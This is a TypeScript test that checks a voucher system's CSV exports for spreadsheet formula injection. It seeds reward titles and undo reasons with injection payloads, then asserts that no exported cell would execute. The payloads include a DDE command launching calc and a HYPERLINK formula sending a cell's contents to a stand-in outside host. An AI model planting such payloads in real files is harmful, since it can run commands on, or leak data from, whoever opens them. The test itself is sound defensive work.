import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { buildDistrict } from '#tests/support/district.ts'
import { accept, redeem, shopWithReward } from '#tests/vouchers/phone.ts'

const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://elsewhere.example?"&A1,"x")',
  '","=1+1","',
  ' =1+1',
  '＝1+1',
  '＠x',
  '-2+3+cmd|x',
]

/** What a spreadsheet would run. */
const runs = /^[\s\u0000]*[=+\-@\t\r＝＋－＠]/
const ours = /^(-?\d+\.\d\d|'.*)$/s

it('no export holds a cell that a spreadsheet would run, wherever people write', async () => {
  const district = await buildDistrict()
  const { merchantId, owner, clerk, resident } = await shopWithReward(district, { points: 1_000 })
  for (const payload of payloads) {
    const title = { zh: payload, en: payload }
    const rewardId = await district.reward({ merchantId, title, description: title })
    const held = await redeem(district, resident, rewardId)
    await accept(district, clerk, held)
    const body = { voucherId: held.id, reason: payload }
    expect((await district.post('/merchant/vouchers/undo', { as: clerk, body })).status).toBe(200)
    await accept(district, clerk, await redeem(district, resident, rewardId))
  }
  const day = (await district.get<string>('/merchant/vouchers.csv', { as: owner })).body
  district.clock.advance({ days: 1 })
  const as = await district.administrator('business')
  const drafted = await district.post('/admin/settlements', {
    as,
    body: { merchantId, throughOn: '2026-11-23' },
  })
  const lines = await district.get<string>(`/merchant/settlements/${drafted.body.id}/lines.csv`, {
    as: owner,
  })
  const cells = [day, lines.body].flatMap(text => (parse(text, { bom: true }) as string[][]).flat())
  expect(cells.length).toBeGreaterThan(300)
  expect(cells.filter(cell => runs.test(cell) && !ours.test(cell))).toEqual([])
  for (const payload of payloads)
    expect(cells.filter(cell => cell.includes(payload)).length).toBeGreaterThan(0)
})
